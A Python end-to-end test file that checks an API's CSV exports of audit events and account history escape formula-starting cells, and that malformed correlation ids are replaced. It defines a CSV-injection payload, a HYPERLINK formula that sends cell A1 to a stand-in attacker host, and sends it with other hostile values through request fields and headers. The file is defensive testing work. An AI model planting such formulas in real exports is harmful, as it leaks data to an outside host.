"""The audit trail and account history exported as CSV cannot carry a formula: a cell that
a caller chose (a reason, a user id, a request id) and that starts with = + - @, a tab
or a carriage return is written as text, behind a quote. A correlation id is checked
like a request id, so a malformed one is not recorded at all."""

from __future__ import annotations

import csv
import io

from tests.e2e.conftest import Api

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(api: Api, path: str, who: str) -> list[dict[str, str]]:
    response = api.get(path, who, params={"format": "csv"})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def _write_hostile_cells(api: Api) -> None:
    added = api.post(
        f"/v1/accounts/{api.acme.account_id}/users",
        "admin",
        json={"user_id": "@evil", "name": "Eve", "email": "eve@acme.example"},
        headers={"X-Request-ID": "-2", "X-Correlation-ID": "=1+1"},
    )
    api.wrote(added, 201)
    voided = api.post(
        f"/v1/invoices/{api.acme.invoice_id}/void", "billing_staff", json={"reason": FORMULA}
    )
    api.wrote(voided)


def test_no_exported_cell_starts_a_formula(api: Api) -> None:
    _write_hostile_cells(api)
    trail = _rows(api, "/v1/audit/events", "auditor")
    history = _rows(api, f"/v1/accounts/{api.acme.account_id}/history", "admin")
    for rows in (trail, history):
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        (added,) = [
            r for r in rows if r["event_type"] == "Account.UserAdded" and "evil" in r["payload"]
        ]
        assert added["request_id"] == "'-2"
        (void,) = [r for r in rows if r["event_type"] == "Invoice.InvoiceVoided"]
        assert void["reason"] == "'" + FORMULA

    # the JSON page keeps every value as recorded
    page = api.get("/v1/audit/events", "auditor", params={"event_type": "Invoice.InvoiceVoided"})
    (event,) = page.json()["events"]
    assert event["reason"] == FORMULA


def test_a_malformed_correlation_id_is_replaced_by_the_request_id(api: Api) -> None:
    _write_hostile_cells(api)
    page = api.get("/v1/audit/events", "auditor", params={"event_type": "Account.UserAdded"})
    (added,) = [e for e in page.json()["events"] if e["payload"]["user"]["user_id"] == "@evil"]
    assert added["request_id"] == "-2"
    assert added["correlation_id"] == "-2"  # "=1+1" was not an id: the request id serves
